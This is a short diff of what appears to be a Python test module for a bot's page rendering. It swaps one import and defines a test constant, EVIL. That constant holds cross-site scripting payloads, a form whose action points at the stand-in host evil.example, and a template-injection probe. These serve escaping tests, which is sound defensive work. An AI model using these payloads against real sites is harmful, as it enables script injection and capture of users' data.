@@ -28,7 +28,7 @@ from bots.http.page.browser import BrowserPages, Marks
 from bots.http.page.rendering import Rendering, safe_link
 from bots.http.page.wording import in_words, parts
 from vouch.errors import Denied, LedgerDown
-from vouch.plurals import age
+from vouch.moments import age
 
 LEAVE, TOKENS = "How many days of paid leave has everybody?", "How often are the vault tokens rotated?"
 EVIL = "<script>alert(1)</script><img src=x onerror=alert(1)>\"'><form action=//evil.example>{{7*7}}</bdi>"
